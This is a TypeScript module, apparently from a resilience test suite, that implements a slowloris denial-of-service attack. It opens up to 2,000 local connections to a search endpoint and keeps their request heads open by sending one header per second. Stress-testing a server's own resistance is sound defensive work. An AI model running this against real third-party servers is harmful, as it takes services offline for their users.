/** Connections that send one more header each second and never end their heads. */
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from './attack.ts';

export const attack: Attack = {
  name: 'slow loris',
  sends: 'heads that never end, over 2,000 connections, for 30 seconds',
  short: true,
  async run({ port, isShort }) {
    const sockets: Socket[] = [];
    for (let i = 0; i < (isShort ? 300 : 2000); i++) {
      const socket = connect(port, '127.0.0.1');
      socket.on('error', () => socket.destroy());
      socket.write('POST /indexes/texts/search HTTP/1.1\r\nHost: a\r\n');
      sockets.push(socket);
      if (i % 100 === 0) await sleep(5);
    }
    for (let round = 0; round < (isShort ? 2 : 30); round++) {
      for (const socket of sockets) if (socket.writable) socket.write('X-a: b\r\n');
      await sleep(1000);
    }
    for (const socket of sockets) socket.destroy();
    return [];
  },
};
